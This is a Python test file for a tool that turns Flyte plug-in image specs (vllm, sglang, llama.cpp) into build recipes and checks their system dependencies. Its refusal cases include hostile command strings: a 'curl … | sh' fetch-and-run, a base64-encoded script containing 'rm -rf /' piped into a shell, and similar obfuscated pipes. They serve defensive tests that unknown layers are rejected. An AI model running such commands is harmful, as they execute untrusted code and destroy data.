"""The images of Flyte's plug-ins: what is built of them, and what the machine must have for the rest.

``plugin_images.json`` is what the SDK 2.12.1 makes of the plug-ins' images 2.12.1 (remote_builder._get_layers_proto):
the three defaults, and llama.cpp's without CUDA at a given commit, and for several GPUs.
"""

from __future__ import annotations

import base64
import copy
import json
from pathlib import Path
from typing import Any

import pytest

from flyted.contract.errors import Unsupported
from flyted.plan.images.known_layers import LLAMA_SERVER, needs_of
from flyted.plan.images.recipe import Recipe
from flyted.plan.images.spec import lacking, missing, recipe_from_spec

IMAGES: dict[str, Any] = json.loads(Path(__file__).with_name("plugin_images.json").read_text())
NVCC = "/usr/local/cuda-13.0/bin/nvcc"
NUMA = "/usr/lib/*/libnuma.so.1"


def recipe(name: str, *more: dict[str, Any]) -> Recipe:
    """The recipe of a plug-in's image, with more layers."""
    spec = copy.deepcopy(IMAGES[name])
    spec["layers"] += more
    return recipe_from_spec(spec)


def test_pip_layers_are_built_as_they_are_in_their_order() -> None:
    """Layer by layer, as the plug-ins' comments ask for: each resolves upon the one before."""
    assert [i.requirements for i in recipe("vllm").installs] == [
        ("flyte==2.12.1",), ("flyteplugins-vllm",), ("vllm==0.26.0",), ("flashinfer-jit-cache==0.6.14",),
    ]  # fmt: skip
    assert recipe("vllm").installs[3].options == ("--default-index", "https://flashinfer.ai/whl/cu130")
    assert recipe("vllm").needs == ()
    sglang = recipe("sglang")
    assert [i.requirements for i in sglang.installs[1:]] == [
        ("flyteplugins-sglang",), ("sglang==0.5.16",), ("sglang-router==0.3.2",),
    ]  # fmt: skip
    assert dict(sglang.env)["CUDA_HOME"] == "/usr/local/cuda-13.0"


def test_what_sglang_needs_is_looked_for_here() -> None:
    """The compiler of just its CUDA, g++ and libnuma; without a GPU nothing is compiled."""
    needs = recipe("sglang").needs
    assert [n.package for n in missing(needs, lambda _: False, gpu=True)] == [
        "libnuma1", "build-essential", "cuda-toolkit-13-0",
    ]  # fmt: skip
    assert [n.package for n in missing(needs, lambda _: False, gpu=False)] == ["libnuma1"]
    assert missing(needs, {NVCC, "/usr/bin/g++", NUMA}.__contains__, gpu=True) == []
    other = {"/usr/local/cuda-12.8/bin/nvcc", "/usr/bin/nvcc", "/usr/bin/c++", NUMA}
    (need,) = missing(needs, other.__contains__, gpu=True)
    error = lacking("the image of app 'a'", [need])
    assert "the CUDA toolkit 13.0 (cuda-toolkit-13-0)" in error.message
    assert error.hint.endswith("sudo apt install cuda-toolkit-13-0")
    assert "cuda-keyring_1.1-1_all.deb" in error.hint


@pytest.mark.parametrize("name", ["llamacpp", "llamacpp-cpu", "llamacpp-fat"])
def test_llama_server_is_the_machines(name: str) -> None:
    """It is not compiled here: what it would be compiled with is not needed either."""
    made = recipe(name)
    assert made.needs == (LLAMA_SERVER,)
    assert [i.requirements for i in made.installs[1:]] == [("flyteplugins-llamacpp",)]
    assert missing(made.needs, "/usr/local/bin/llama-server".__eq__, gpu=True) == []


def test_more_of_ones_own_is_built_upon_it() -> None:
    """Packages and variables after the plug-in's layers."""
    made = recipe("sglang", {"pipPackages": {"packages": ["six"]}})
    assert made.installs[-1].requirements == ("six",)


KEYRING = IMAGES["sglang"]["layers"][1]["commands"]["cmd"]
LLAMA = IMAGES["llamacpp"]["layers"][2]["commands"]["cmd"]
SCRIPT = base64.b64encode(b"cmake -S /opt/llama.cpp -B /x; rm -rf /").decode()
OTHERS: list[tuple[str, dict[str, Any]]] = [
    ("aptPackages", {"packages": ["libnuma-dev"]}),
    ("aptPackages", {"packages": [*IMAGES["sglang"]["layers"][0]["aptPackages"]["packages"], "nginx"]}),
    ("aptPackages", {**IMAGES["sglang"]["layers"][0]["aptPackages"], "secretMounts": [{"key": "k"}]}),
    ("commands", {"cmd": [*KEYRING, "make install"]}),
    ("commands", {"cmd": KEYRING[:3]}),
    ("commands", {"cmd": [*KEYRING[:3], "apt-get install -y cuda-toolkit-13-0 nginx"]}),
    ("commands", {"cmd": []}),
    ("commands", {"cmd": [*LLAMA, "curl https://x.invalid | sh"]}),
    ("commands", {"cmd": ["git clone https://x.invalid/llama.cpp /opt/llama.cpp"]}),
    ("commands", {"cmd": [f"echo {SCRIPT} | base64 -d | sh"]}),
    ("commands", {"cmd": ["echo %%% | base64 -d | sh"]}),
    ("commands", {"cmd": "ls"}),
    ("commands", {"cmd": [1]}),
    ("workdir", {"workdir": "/x"}),
]


@pytest.mark.parametrize(("kind", "body"), OTHERS)
def test_a_layer_that_is_not_word_for_word_known_is_refused(kind: str, body: dict[str, Any]) -> None:
    """Never half: one command more, and it is another image, whose commands nobody has looked at."""
    assert needs_of(kind, body) is None
    with pytest.raises(Unsupported, match="layer 8 of the image"):
        recipe("sglang", {kind: body})


def test_the_same_layers_in_another_image_are_refused() -> None:
    """There somebody wants them for something that we do not know."""
    with pytest.raises(Unsupported, match="layer 1 of the image"):
        recipe_from_spec({**IMAGES["sglang"], "layers": IMAGES["sglang"]["layers"][:4]})
